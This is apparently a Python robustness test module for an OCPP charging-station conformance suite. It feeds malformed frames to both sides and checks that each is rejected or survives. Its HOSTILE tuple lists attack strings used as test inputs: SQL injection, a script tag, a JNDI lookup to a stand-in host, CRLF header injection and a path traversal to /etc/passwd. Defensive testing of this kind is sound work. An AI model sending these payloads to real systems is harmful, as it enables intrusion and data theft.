"""Block R, robustness: frames whose payload breaks a rule. Both sides, every version."""
# ruff: noqa: D103  (a case says what it is in its title)

from __future__ import annotations

import json
from typing import Any

from conformance.cases.robust.states import INPUT, code, lives, name, robust, rule, turned_down, up
from conformance.vocabulary import CSMS, NOW, PRESENT, V16, Heard, Payload, Script, Subject, ask, check, hears, say

VENDOR = "com.example.nobody"


def _transfer(**fields: Any) -> Payload:
    """A DataTransfer, which both sides know in every version."""
    return {"vendorId": VENDOR, **fields}


def _refused(subject: Subject, number: int, payload: Any, *codes: str, rules: str = "") -> Script:
    key = name(subject, number)
    said = payload if isinstance(payload, str) else json.dumps(payload)
    text = f'[2,"{key}","DataTransfer",{said}]'
    named = rules or rule(subject, "4.3 4.2.3")
    yield from turned_down(subject, text, key, code(subject, *codes, "FormatViolation", "ProtocolError"), named)


@robust(11, "A missing field is found fault with", clauses="4.3 4.2.3", catches="adds_what_is_missing errs_on_payloads")
def missing(subject: Subject) -> Script:
    yield from up(subject)
    yield from _refused(subject, 1, {}, "OccurrenceConstraintViolation")
    yield from _refused(subject, 2, {"data": "x"}, "OccurrenceConstraintViolation")
    yield from lives(subject)


@robust(
    12, "A field of the wrong type is found fault with", clauses="4.3 4.2.3", catches="casts_to_text errs_on_payloads"
)
def wrong_type(subject: Subject) -> Script:
    yield from up(subject)
    strange: tuple[Any, ...] = (5, True, None, [], {}, ["a"])
    for number, value in enumerate(strange, 1):
        yield from _refused(subject, number, {"vendorId": value}, "TypeConstraintViolation", *_NULL)
    yield from lives(subject)


_NULL = ("OccurrenceConstraintViolation", "PropertyConstraintViolation")
"""What a null may be taken for, too."""


@robust(13, "A text that is too long is found fault with", clauses="4.3 4.2.3", catches="cuts_texts errs_on_payloads")
def too_long(subject: Subject) -> Script:
    yield from up(subject)
    limits = "PropertyConstraintViolation", "OccurrenceConstraintViolation", "TypeConstraintViolation"
    for number, chars in enumerate((256, 1000, 100_000), 1):
        yield from _refused(subject, number, {"vendorId": "v" * chars}, *limits)
    yield from _refused(subject, 9, _transfer(messageId="m" * 51), *limits)
    yield from lives(subject)


@robust(14, "A field that nobody knows is found fault with", clauses="4.3 4.2.3", catches="drops_unknown_fields")
def unknown_field(subject: Subject) -> Script:
    yield from up(subject)
    for number, field in enumerate(("colour", "VendorId", "__proto__", ""), 1):
        yield from _refused(
            subject, number, _transfer(**{field: "red"}), "PropertyConstraintViolation", "OccurrenceConstraintViolation"
        )
    yield from lives(subject)


@robust(15, "A payload that is no object is found fault with", clauses="4.2.1", catches="takes_any_payload")
def no_object(subject: Subject) -> Script:
    yield from up(subject)
    for number, value in enumerate(("[]", '"x"', "5", "true", '[{"vendorId":"x"}]'), 1):
        yield from _refused(
            subject, number, value, "TypeConstraintViolation", "RpcFrameworkError", rules=rule(subject, "4.2.1")
        )
    yield from lives(subject)


@robust(16, "The same key twice is found fault with", verifies=INPUT, catches="last_key_wins")
def twice(subject: Subject) -> Script:
    yield from up(subject)
    more = "RpcFrameworkError", "PropertyConstraintViolation", "OccurrenceConstraintViolation"
    yield from _refused(subject, 1, '{"vendorId":"a","vendorId":"b"}', *more, rules=INPUT)
    yield from lives(subject)


@robust(17, "A payload that is nested without end does no harm", clauses="4.2.3", catches="recurses_without_end")
def deep(subject: Subject) -> Script:
    yield from up(subject)
    for number, depth in enumerate((100, 10_000, 100_000), 1):
        key = name(subject, number)
        for nest in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
            yield say(f'[2,"{key}","DataTransfer",{{"vendorId":"{VENDOR}","data":{nest}}}]')
            yield hears(2.0, optional=True)  # 2.x allows any JSON in data: what is taken, and how deep, is free
    yield from lives(subject)


@robust(18, "Numbers beyond all range do no harm", verifies=INPUT, catches="reads_infinity")
def numbers(subject: Subject) -> Script:
    yield from up(subject)
    for number, value in enumerate(("NaN", "Infinity", "-Infinity"), 1):
        codes = code(subject)
        key = name(subject, number)
        said = f'[2,"{key}","DataTransfer",{{"vendorId":"{VENDOR}","data":{value}}}]'
        yield from turned_down(subject, said, key, codes, INPUT)
    for number, value in enumerate(("1e999", "9" * 5000, "-0", "1e-999", "18446744073709551616"), 11):
        yield say(f'[2,"{name(subject, number)}","DataTransfer",{{"vendorId":"{VENDOR}","data":{value}}}]')
        yield hears(2.0, optional=True)
    yield from lives(subject)


HOSTILE = (
    "a\u0000b", "\ud800", "\u202egnp.exe", "\U0001f50c", "e" + "\u0301" * 60, "'; DROP TABLE stations; --",
    "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://bench.invalid/a}", "=HYPERLINK(1)", "\r\nSet-Cookie: a=b",
    "\u001b[2J", "%s%n%x", "../../etc/passwd",
)  # fmt: skip


@robust(19, "Texts that attack what shows or stores them do no harm", verifies=INPUT, catches="chokes_on_texts")
def hostile(subject: Subject) -> Script:
    yield from up(subject)
    for number, text in enumerate(HOSTILE, 1):
        key = name(subject, number)
        yield say(json.dumps([2, key, "DataTransfer", _transfer(data=text)]))
        heard: Heard | None = yield hears(subject.message_s, where={"id": key}, optional=True)
        told = heard.kind if heard else "nothing came"
        yield check(told in ("result", "error", "nothing came"), f"no unreadable answer to {text!r}", told, INPUT)
    yield from lives(subject, INPUT)


@robust(20, "A value that is none of those listed is found fault with", clauses="4.3 4.2.3", catches="lists_no_values")
def enumeration(subject: Subject) -> Script:
    yield from up(subject)
    old = subject.version == V16
    for number, value in enumerate(("Sideways", "", "available", "Available "), 1):
        key = name(subject, number)
        if subject.role is CSMS:
            action = "StatusNotification"
            payload: Payload = {"connectorId": 1, "errorCode": "NoError", "status": value}
            if not old:
                at = "2026-03-02T08:00:00Z"
                payload = {"timestamp": at, "connectorStatus": value, "evseId": 1, "connectorId": 1}
        else:
            action, payload = ("Reset", {"type": value})
        allowed = code(subject, "PropertyConstraintViolation", "TypeConstraintViolation", "FormatViolation")
        text = json.dumps([2, key, action, payload])
        yield from turned_down(subject, text, key, allowed, rule(subject, "4.3 4.2.3"))
    yield from lives(subject)


@robust(
    21, "Moments that are none, or beyond belief, do no harm", verifies=INPUT, of=(CSMS,), catches="chokes_on_moments"
)
def moments(csms: Subject) -> Script:
    yield from up(csms)
    strange = "1000000", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "2024-W01-1", "", "yesterday"
    for number, moment in enumerate(strange, 1):
        key = name(csms, number)
        text = json.dumps([2, key, "StatusNotification", _status(csms, moment)])
        yield from turned_down(csms, text, key, code(csms), INPUT)
    for moment in ("1970-01-01T00:00:00Z", "2038-01-19T03:14:08Z", "2106-02-07T06:28:16Z", "9999-12-31T23:59:59Z"):
        yield ask("StatusNotification", _status(csms, moment), rule=INPUT)
    yield ask("StatusNotification", _status(csms, NOW), rule=INPUT)
    yield ask("Heartbeat", having={"currentTime": PRESENT}, rule=INPUT)


def _status(csms: Subject, moment: Any) -> Payload:
    if csms.version == V16:
        return {"connectorId": 1, "errorCode": "NoError", "status": "Available", "timestamp": moment}
    return {"timestamp": moment, "connectorStatus": "Available", "evseId": csms.evse, "connectorId": csms.connector}
